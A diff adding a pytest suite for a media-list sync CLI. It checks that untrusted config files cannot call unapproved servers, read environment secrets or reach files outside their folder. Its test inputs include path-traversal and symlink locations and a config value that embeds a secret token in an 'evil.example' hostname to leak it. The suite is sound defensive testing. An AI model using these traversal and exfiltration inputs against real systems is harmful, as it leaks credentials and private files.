@@ -1,0 +1,199 @@
+"""A file that somebody else wrote, under --allow-server, --allow-env and --allow-files."""
+
+from __future__ import annotations
+
+import inspect
+import json
+from typing import TYPE_CHECKING
+
+import pytest
+
+from examples.sandbox.media_server import SandboxServer
+from reconciler.cli.commands import health
+from reconciler.cli.program import COMMANDS
+from tests.e2e.household import DUNE, HEAT, until
+from tests.e2e.running import lists, running, write
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from tests.e2e.household import Household
+
+READING = {
+    "validate": (), "plan": (), "apply": ("--yes",), "adopt": ("wishes",), "forget": ("tmdb:tv:1",),
+    "run": (), "reconcile": ("wishes",), "status": (), "explain": ("Dune",), "fetch": ("wishes",),
+    "history": (), "doctor": (), "login": ("trakt",),
+}  # fmt: skip
+SECRET = "key-of-nobody"
+
+
+@pytest.fixture(scope="module")
+def evil() -> Iterator[SandboxServer]:
+    with SandboxServer() as server:
+        yield server
+
+
+def test_every_command_that_reads_the_file_has_the_options() -> None:
+    restricted = {
+        command.__name__
+        for command in COMMANDS
+        if "allow_server" in inspect.signature(command).parameters
+    }
+    assert restricted == READING.keys()
+    assert {command.__name__ for command in COMMANDS} - restricted == {"init", "schema", "version"}
+
+
+@pytest.mark.parametrize("command", READING)
+def test_no_command_calls_another_server(
+    house: Household, evil: SandboxServer, command: str
+) -> None:
+    house.wish([DUNE])
+    house.write({"wishes": {"source": "file:wishes.txt"}}, url=evil.url)
+    done = house.run(command, *READING[command], "--allow-server", house.server.url)
+    assert done.code == 78
+    assert done.err.startswith("listsync.yaml:3:10 server.url: this server is not allowed")
+    assert (house.server.state.calls, evil.state.calls) == ([], [])
+
+
+ALLOWED = {
+    "options": (("--allow-server", "HERE/", "--allow-env", "A,SEERR_API_KEY"), {}),
+    "variables": ((), {"LISTSYNC_ALLOW_SERVER": "http://other HERE",
+                       "LISTSYNC_ALLOW_ENV": "SEERR_API_KEY"}),
+    "options over variables": (("--allow-env", "SEERR_API_KEY"), {"LISTSYNC_ALLOW_ENV": "A"}),
+}  # fmt: skip
+REFUSED = {
+    "option": (("--allow-env", "A,B"), {}),
+    "variable": ((), {"LISTSYNC_ALLOW_ENV": "A,B"}),
+    "empty variable": ((), {"LISTSYNC_ALLOW_ENV": ""}),
+    "empty server": ((), {"LISTSYNC_ALLOW_SERVER": ""}),
+}
+
+
+@pytest.mark.parametrize(("options", "env", "code"), [
+    *((*row, 0) for row in ALLOWED.values()), *((*row, 78) for row in REFUSED.values())
+], ids=[*ALLOWED, *REFUSED])  # fmt: skip
+def test_restrictions_come_from_options_or_variables(
+    house: Household, options: tuple[str, ...], env: dict[str, str], code: int
+) -> None:
+    house.wish([DUNE])
+    here = house.server.url
+    done = house.run(
+        "validate",
+        *(word.replace("HERE", here) for word in options),
+        env={name: value.replace("HERE", here) for name, value in env.items()},
+    )
+    assert done.code == code, done.err
+
+
+@pytest.fixture
+def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("outside")
+    (folder / "wishes.txt").write_text(f"imdb:{DUNE.imdb}\n")
+    (folder / "wishes.csv").write_text("Date,Name,Year,Letterboxd URI\n")
+    (folder / "key").write_text(f"{SECRET}\n")
+    return folder
+
+
+PLACES = {
+    "an absolute path": "{outside}/wishes.txt",
+    "a relative path": "../{name}/wishes.txt",
+    "a symlink": "link.txt",
+    "a folder that is a symlink": "folder/wishes.txt",
+    "a way back from an archive": "a.zip/../{name}/wishes.txt",
+}
+
+
+@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
+def test_lists_outside_the_folder_need_to_be_allowed(
+    house: Household, outside: Path, place: str
+) -> None:
+    (house.folder / "link.txt").symlink_to(outside / "wishes.txt")
+    (house.folder / "folder").symlink_to(outside)
+    (house.folder / "a.zip").symlink_to(outside / "wishes.txt")
+    house.write({"wishes": {"source": f"file:{place.format(outside=outside, name=outside.name)}"}})
+    done = house.run("validate", "--allow-env", "SEERR_API_KEY")
+    what = "outside the folder of the config file; add --allow-files to use it"
+    assert (done.code, done.err) == (78, f"listsync.yaml:10:14 lists.wishes.source: {what}\n")
+    assert house.run("validate", "--allow-env", "SEERR_API_KEY", "--allow-files").code == 0
+    allowed = {"LISTSYNC_ALLOW_ENV": "SEERR_API_KEY", "LISTSYNC_ALLOW_FILES": "1"}
+    assert house.run("validate", env=allowed).code == 0
+    assert house.run("validate").code == 0
+
+
+@pytest.mark.parametrize("section", [
+    {"server": {"ca_file": "{outside}/key"}},
+    {"notify": {"urls_file": "{outside}/key"}},
+    {"providers": {"tmdb": {"api_key_file": "{outside}/key"}}},
+    {"ledger": "{outside}/listsync.db"},
+    {"lists": {"a": {"source": "letterboxd:{outside}/wishes.csv"}}},
+    {"lists": {"a": {"source": "file:{outside}/wishes.txt", "role": "exclude"}}},
+], ids=lambda section: json.dumps(section)[1:30])  # fmt: skip
+def test_every_other_file_outside_the_folder_does_too(
+    house: Household, outside: Path, section: dict[str, object]
+) -> None:
+    house.wish([DUNE])
+    file = house.folder / "listsync.yaml"
+    document = json.loads(file.read_text())
+    for key, value in json.loads(json.dumps(section).replace("{outside}", str(outside))).items():
+        document[key] = {**document.get(key, {}), **value} if isinstance(value, dict) else value
+    file.write_text(json.dumps(document, indent=1))
+    done = house.run("validate", "--allow-env", "SEERR_API_KEY")
+    assert done.code == 78
+    [line] = done.err.splitlines()
+    assert line.endswith("outside the folder of the config file; add --allow-files to use it")
+    assert not (outside / "listsync.db").exists()
+
+
+def test_no_command_shows_a_line_of_a_file_outside_the_folder(
+    house: Household, outside: Path
+) -> None:
+    house.secrets.append(SECRET)
+    house.write({"wishes": {"source": f"file:{outside}/key"}})
+    for command in ("plan", "apply --yes", "doctor", "fetch wishes", "status wishes", "explain x"):
+        done = house.run(*command.split())
+        assert done.code == (0 if command in {"status wishes", "explain x"} else 1), command
+        assert command == "explain x" or "line 1, column 1: not a title; write" in done.out
+
+
+def test_a_saved_plan_is_applied_under_the_same_restrictions(
+    house: Household, evil: SandboxServer
+) -> None:
+    house.wish([DUNE])
+    allowed = ("--allow-server", house.server.url, "--allow-env", "SEERR_API_KEY")
+    assert house.run("plan", "--out", "plan.json", *allowed).code == 0
+    refused = house.run("apply", "plan.json", "--allow-server", evil.url)
+    assert (refused.code, house.stored()) == (78, [])
+    assert house.run("apply", "plan.json", *allowed).code == 0
+    assert house.stored() == [DUNE.tmdb]
+
+
+def test_a_run_goes_on_with_its_last_file_where_the_next_one_breaks_a_restriction(
+    house: Household, evil: SandboxServer
+) -> None:
+    write(house, lists(house, wishes=(DUNE,)))
+    with running(house, "--allow-server", house.server.url, "--allow-env", "SEERR_API_KEY") as run:
+        until(run.is_ready)
+        generation = run.status()["generation"]
+        write(house, lists(house, wishes=(DUNE, HEAT)), url=evil.url, controller={"grace": "0s"})
+        until(lambda: run.whole("ConfigValid").get("status") == "False")
+        assert "server.url: this server is not allowed" in run.whole("ConfigValid")["message"]
+        assert run.status()["generation"] == generation
+    assert evil.state.calls == []
+
+
+@pytest.mark.parametrize(("env", "place"), [
+    ({}, f"{SECRET}.evil.example:80"), ({"LISTSYNC_ALLOW_SERVER": "http://seerr"}, health.DEFAULT),
+    ({"LISTSYNC_ALLOW_ENV": ""}, health.DEFAULT),
+], ids=["unrestricted", "server", "no variable"])  # fmt: skip
+def test_the_health_check_spells_no_variable_out_in_a_host(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], place: str
+) -> None:
+    asked: list[str] = []
+    monkeypatch.setattr(health, "heard", lambda listen, _path: asked.append(listen))
+    monkeypatch.setenv("TOKEN", SECRET)
+    for name, value in env.items():
+        monkeypatch.setenv(name, value)
+    (tmp_path / "f.yaml").write_text("controller: {listen: '${TOKEN}.evil.example:80'}\n")
+    health.is_alive(tmp_path / "f.yaml")
+    assert asked[0] == place
